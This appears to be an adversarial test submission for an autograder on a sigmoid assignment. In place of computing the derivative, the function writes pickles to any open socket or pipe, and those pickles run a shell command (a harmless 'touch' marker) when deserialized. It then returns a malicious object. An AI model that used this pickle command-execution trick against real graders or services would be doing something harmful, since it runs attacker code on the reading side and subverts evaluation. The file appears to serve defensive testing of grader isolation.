"""Replies with a pickle that runs a command where it is read.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: numbers only
"""

# %% sigmoid_derivative
import os
import pickle
import stat
import struct


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/course-attack-reply_pickled",)


def sigmoid_derivative(x):
    for content in (pickle.dumps(Command()), pickle.dumps({"points": Command(), "values": [Command()]}, protocol=0)):
        for descriptor in range(256):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode) or stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                    os.write(descriptor, struct.pack("<I", len(content)) + content)
            except OSError:
                pass
    return Command()
